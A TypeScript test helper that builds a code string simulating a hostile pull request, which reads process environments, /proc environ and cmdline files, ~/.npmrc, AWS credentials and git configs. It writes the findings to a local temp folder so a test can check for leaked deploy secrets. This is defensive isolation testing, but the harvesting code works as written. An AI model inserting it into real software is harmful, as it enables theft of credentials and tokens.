import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

/**
 * What a hostile pull request adds to a part's source: code that, wherever the module is loaded in
 * Node (the render of its pages), reads what a runner's process could reach of the deploy jobs'
 * secrets (its own environment, every process's `/proc/<pid>/environ` and `cmdline`, `~/.npmrc`,
 * `~/.aws/credentials` and `config`, the checkout's and the user's git config) and writes all it
 * read into `huntReports`, one file per process. A test then looks for the secrets in those files.
 */
export const huntReports = path.join(os.tmpdir(), 'radix-secret-hunt');

export interface HuntReport {
  pid: number;
  cwd: string;
  /** Every place read, with what it held. */
  read: Record<string, string>;
}

export function huntingCode(): string {
  return `
type HuntFs = {
  readFileSync(file: string, encoding: 'utf8'): string;
  readdirSync(dir: string): string[];
  mkdirSync(dir: string, options: { recursive: boolean }): void;
  writeFileSync(file: string, text: string): void;
};
type HuntProcess = { env: Record<string, string | undefined>; pid: number; cwd(): string; getBuiltinModule?(name: string): unknown };
const huntProcess = (globalThis as unknown as { process?: HuntProcess }).process;
if (huntProcess?.getBuiltinModule) {
  const huntFs = huntProcess.getBuiltinModule('fs') as HuntFs;
  const huntRead = (file: string) => {
    try {
      return huntFs.readFileSync(file, 'utf8');
    } catch {
      return '';
    }
  };
  const huntHome = huntProcess.env.HOME ?? '';
  const huntFound: Record<string, string> = { env: JSON.stringify(huntProcess.env) };
  for (const pid of huntFs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)))
    for (const what of ['environ', 'cmdline']) huntFound['/proc/' + pid + '/' + what] = huntRead('/proc/' + pid + '/' + what);
  for (const file of [
    huntHome + '/.npmrc',
    huntHome + '/.aws/credentials',
    huntHome + '/.aws/config',
    huntHome + '/.gitconfig',
    huntProcess.cwd() + '/.git/config',
  ])
    huntFound[file] = huntRead(file);
  huntFs.mkdirSync(${JSON.stringify(huntReports)}, { recursive: true });
  huntFs.writeFileSync(
    ${JSON.stringify(huntReports)} + '/' + huntProcess.pid + '.json',
    JSON.stringify({ pid: huntProcess.pid, cwd: huntProcess.cwd(), read: huntFound }),
  );
}
`;
}

/** Every report the hunting code wrote. */
export function huntReportsRead(): HuntReport[] {
  if (!fs.existsSync(huntReports)) return [];
  return fs
    .readdirSync(huntReports)
    .map((file) => JSON.parse(fs.readFileSync(path.join(huntReports, file), 'utf8')) as HuntReport);
}

/** Each secret found in a report, with where it was read. */
export function secretsFound(reports: readonly HuntReport[], secrets: Record<string, string>): string[] {
  return reports.flatMap((report) =>
    Object.entries(report.read).flatMap(([place, text]) =>
      Object.entries(secrets)
        .filter(([, value]) => value && text.includes(value))
        .map(([name]) => `${name} in ${place} (read by process ${report.pid})`),
    ),
  );
}
